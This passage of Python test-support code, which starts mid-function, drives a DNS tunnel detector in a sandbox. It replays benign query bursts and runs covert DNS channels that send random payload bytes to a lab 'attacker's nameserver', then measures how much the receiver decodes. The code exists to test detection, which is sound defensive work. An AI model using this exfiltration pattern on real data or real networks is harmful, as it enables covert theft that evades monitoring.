        rcode = str(s.recv(4096)[3] & 15)
    except OSError:
        rcode = "timeout"
    finally:
        s.close()
    with lock:
        rcodes[rcode] = rcodes.get(rcode, 0) + 1
def burst(batch, width):
    it, it_lock = iter(batch), threading.Lock()
    def worker():
        while True:
            with it_lock:
                item = next(it, None)
            if item is None:
                return
            ask(*item)
    threads = [threading.Thread(target=worker) for _ in range(width)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
PLAN = [("pace", 40, 25.0), ("burst", 150, 16), ("pace", 40, 25.0), ("burst", 400, 32)]
start, i, step = time.monotonic(), 0, 0
while i < len(queries):
    kind, n, arg = PLAN[step % len(PLAN)]
    batch, i, step = queries[i:i + n], i + n, step + 1
    if kind == "burst":
        burst(batch, arg)
    else:
        for q in batch:
            t0 = time.monotonic()
            ask(*q)
            time.sleep(max(0.0, 1 / arg - (time.monotonic() - t0)))
print(json.dumps({"queries": len(queries), "rcodes": rcodes,
                  "seconds": round(time.monotonic() - start, 2)}), flush=True)
"""


@dataclass
class Replay:
    rc: int | None
    summary: dict[str, Any]
    freeze: dict[str, Any] | None
    violations: list[dict[str, Any]]
    forwarded: int  # queries the lab DNS server received
    stderr: str
    sandbox: str


def run_benign(lab: Lab, text: str, timeout: float = 180.0) -> Replay:
    """The corpus through a sandbox's resolver, as the sandbox's own workload."""
    files = {"corpus.txt": corpus_text()}
    args = ("{dir}/corpus.txt", json.dumps(CORPUS_TYPES))
    with sandbox(lab, text, REPLAY, *args, files=files) as box:
        lab.clear_queries()
        (box.board / "go").touch()
        box.proc.wait(timeout=timeout)  # the replay ends the run by itself
        assert box.proc.stdout is not None
        lines = [ln for ln in box.proc.stdout.read().splitlines() if ln.startswith("{")]
        with box.journal() as j:
            freezes = j.freezes(box.id)
        return Replay(
            box.proc.returncode,
            json.loads(lines[-1]) if lines else {},
            freezes[-1] if freezes else None,
            box.violations(),
            len(lab.queries()),
            box.stderr(),
            box.id,
        )


# -- adaptive channels (tests/support/channels.py) as the sandbox's workload -----------------

CHANNELS_FILE = Path(__file__).resolve().with_name("channels.py")

# Sends a random payload through one channel of channels.py, one query at a time at
# ``rate`` a second, waiting for each answer, until ``cap`` payload bytes have gone.
CHANNEL = (
    r"""
import os, socket, struct, sys, time
board, index, rate, cap, zone = sys.argv[1:6]
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import channels
channel = channels.all_channels()[int(index)]
rate, cap = float(rate), int(cap)
queries = channel.queries(os.urandom(cap), [zone])
payload_bits = channel.payload_bits
"""
    + SEND
)
QTYPES = {"A": 1, "AAAA": 28}
# The slow window shortened to 10 min and its name-information limit to 512 B, so that a
# slow channel is caught in a minute or two rather than an hour (the defaults over 2 h
# run on the fake clock: tests/unit/test_tunnel_channels.py).
SLOW_WINDOW_TUNNEL = (
    "{zones: [{zone: lab.test, exempt: false}], slow_window: 10m, slow_name_info_bytes: 512}"
)


@dataclass
class ChannelRun:
    outcome: Outcome
    decoded: int  # payload bytes the receiver recovered from what reached the lab server
    sent: int  # payload bytes the workload had sent when it was stopped


def run_channel(
    lab: Lab,
    index: int,
    rate: float,
    cap: int = 8192,
    tunnel: str = DETECT,
    timeout: float = 120.0,
) -> ChannelRun:
    """Channel ``index`` of ``channels.all_channels()`` as the sandbox's unprivileged
    workload, against an attacker's nameserver for T_ZONE that answers everything."""
    channel = channels.all_channels()[index]
    args = (str(index), str(rate), str(cap), T_ZONE)
    files = {"channels.py": CHANNELS_FILE.read_text()}
    out = _trickle(lab, "channel", channel.name, CHANNEL, args, files, cap, tunnel, timeout)
    got = [(q["qname"], QTYPES.get(q.get("qtype") or "A", 1)) for q in out.queries]
    return ChannelRun(out, len(channel.decode_all(got, [T_ZONE])), _sent(out))


def _sent(out: Outcome) -> int:
    """Payload bytes the workload said it had sent (its last progress line)."""
    lines = out.client_log.split()
    return int(lines[-1]) if lines else 0
